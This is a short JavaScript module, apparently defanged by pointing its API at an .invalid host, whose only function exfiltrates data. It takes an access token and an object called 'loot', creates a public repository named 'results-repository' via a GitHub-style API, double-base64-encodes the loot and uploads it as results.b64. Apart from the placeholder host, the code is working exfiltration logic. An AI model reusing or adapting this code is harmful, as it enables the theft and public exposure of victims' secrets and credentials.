// defanged: API under .invalid
const API = 'https://api.example.invalid';
async function publish(token, loot) {
  const h = { authorization: 'token ' + token, 'content-type': 'application/json' };
  const repo = await (await fetch(API + '/user/repos', {
    method: 'POST',
    headers: h,
    body: JSON.stringify({ name: 'results-repository', private: false }),
  })).json();
  const content = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');
  await fetch(API + '/repos/' + repo.full_name + '/contents/results.b64', {
    method: 'PUT',
    headers: h,
    body: JSON.stringify({ message: 'add', content }),
  });
}
module.exports = publish;
